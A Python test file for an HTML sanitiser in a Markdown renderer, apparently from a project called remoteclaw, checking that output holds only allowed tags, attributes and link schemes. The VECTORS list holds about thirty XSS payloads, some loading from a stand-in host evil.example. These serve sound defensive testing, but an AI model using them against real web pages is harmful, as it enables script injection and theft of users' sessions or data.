"""The HTML of Markdown texts on the page: it contains known tags only."""

import time
from html import escape
from html.parser import HTMLParser

from hypothesis import example, given
from hypothesis import strategies as st

from remoteclaw.gateway.page.highlighting import LANGUAGES, MAX_CHARS, MAX_LINE_CHARS, code_html
from remoteclaw.gateway.page.html import hides_words, html_of
from tests.support.rows import for_each

TAGS = {
    *("p", "h3", "h4", "h5", "h6", "pre", "code", "ul", "ol", "li", "span", "div", "table"),
    *("thead", "tbody", "tr", "th", "td", "blockquote", "hr", "br", "a", "strong", "em", "s"),
}
ATTRIBUTES = {
    *("dir", "tabindex", "data-language", "start", "class", "role", "aria-label"),
    *("href", "rel", "target"),
}
#: Texts that have run scripts in other pages, in forms that filters have missed.
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<svg/onload=alert(1)><animate onbegin="alert(1)">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x](https://e.example/'onmouseover='alert(1))",
    '[x](https://e.example "title\\" onload=alert(1)")',
    "![x](https://e.example/track.png)",
    '![x" onerror="alert(1)](x)',
    '<https://e.example/"onclick=alert(1)>',
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '| <b>x | y" onload=1 |\n|:-|-:|\n| </td><script> | `</table>` |',
    "- [x] </li><script>alert(1)</script>",
    "# </h3><base href=//evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "\x00<\x00script>alert(1)</script>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><button>Allow</button></form>",
    "<details open ontoggle=alert(1)>",
    "https://e.example/<script>alert(1)</script>",
)


class Seen(HTMLParser):
    """The tags and the text that a browser sees."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data!r}")


def check(html: str) -> Seen:
    seen = Seen(html)
    for tag, attributes in seen.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        if tag == "a":
            href = attributes["href"] or ""
            assert href.lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer"
    return seen


@for_each("text", VECTORS)
def test_html_in_a_text_is_escaped(text: str) -> None:
    check(html_of(text))


PIECES = st.sampled_from([*VECTORS, "\n", "> ", "- ", "|", "`", "]("])


@example('```"><script>\n```')
@example("```html\n<script>alert(1)</script>\n```")
@given(st.text() | st.lists(PIECES).map("".join))
def test_any_text_is_rendered_to_known_tags_only(text: str) -> None:
    check(html_of(text))


def test_all_markdown_elements_are_rendered() -> None:
    html = html_of(
        "# A *b*\n\nWords `x<y` **bold** ~~no~~\nline https://e.example/?a=1&b=2\n\n"
        "3. one\n4. two\n   - [x] done\n\n```python\nprint(1 < 2)\n```\n\n"
        "| a | b |\n|:--|--:|\n| 1 | *2* |\n\n> said\n\n---\n"
    )
    assert html == (
        '<h3 dir="auto">A <em>b</em></h3>'
        '<p dir="auto">Words <code>x&lt;y</code> <strong>bold</strong> <s>no</s><br>line '
        '<a href="https://e.example/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">'
        "https://e.example/?a=1&amp;b=2</a></p>"
        '<ol start="3"><li>one</li><li>two<ul><li class="task">'
        '<span role="img" aria-label="done">☑</span> done</li></ul></li></ol>'
        '<pre tabindex="0" data-language="python"><code><span class="f">print</span>('
        '<span class="n">1</span> <span class="o">&lt;</span> <span class="n">2</span>)'
        "</code></pre>"
        '<div class="table" tabindex="0"><table><thead><tr><th class="left">a</th>'
        '<th class="right">b</th></tr></thead><tbody><tr><td class="left">1</td>'
        '<td class="right"><em>2</em></td></tr></tbody></table></div>'
        '<blockquote><p dir="auto">said</p></blockquote><hr>'
    )


def test_headings_begin_at_level_three_whatever_the_highest_is() -> None:
    assert html_of("## A\n\n### b") == '<h3 dir="auto">A</h3><h4 dir="auto">b</h4>'
    assert '<h3 dir="auto">c</h3>' in html_of("> # c\n\n### d")


def test_html_hides_the_words_of_links_definitions_and_entities() -> None:
    for whole in ("1. Read `a`\n2. **Write** <b>", "```sh\nls\n```", "- [ ] a", "a https://b.c"):
        assert not hides_words(whole), whole
    for partly in ("a [b](https://c)", "a\n\n[x]: /evil", "a&#8238;b", "![a](b)", "a\n1986. b"):
        assert hides_words(partly), partly


#: What could end the block, or hide a part of it.
DECEPTIVE = "</code></pre><script>alert(1)</script> \u202e\u2028<!-- {{"


@for_each("language", [*sorted(LANGUAGES), "diff", "TS", "py", "no such", "", "python title=x"])
def test_highlighting_changes_no_character(language: str) -> None:
    text = "def f(x):\n\t# <b>\n  return 'é' + 1 \r\n\n+++ a\n-b\n@@ c\n" + DECEPTIVE
    unfinished = 'x "y" {\n  z = <<-END\n    1\n    2\n'
    for each in (text, unfinished):
        assert Seen(code_html(language, each)).text == Seen(escape(each)).text


def test_a_block_that_would_take_long_stays_plain() -> None:
    """The grammars of some languages need seconds for a long block or a long line."""
    for text in ("x = 1\n" * (MAX_CHARS // 6 + 1), "a:" * MAX_LINE_CHARS):
        assert code_html("ini", text) == text
    before = time.thread_time()
    html = code_html("csharp", "a\n" * (MAX_CHARS // 2))  # 6 seconds without the limit
    assert time.thread_time() - before < 1
    assert Seen(html).text == "a\n" * (MAX_CHARS // 2)


def test_a_diff_has_a_class_for_each_changed_line() -> None:
    assert code_html("diff", "@@ 1\n a\n-b\n+<c>") == (
        '<span class="hunk">@@ 1\n</span> a\n<span class="removed">-b\n</span>'
        '<span class="added">+&lt;c&gt;</span>'
    )
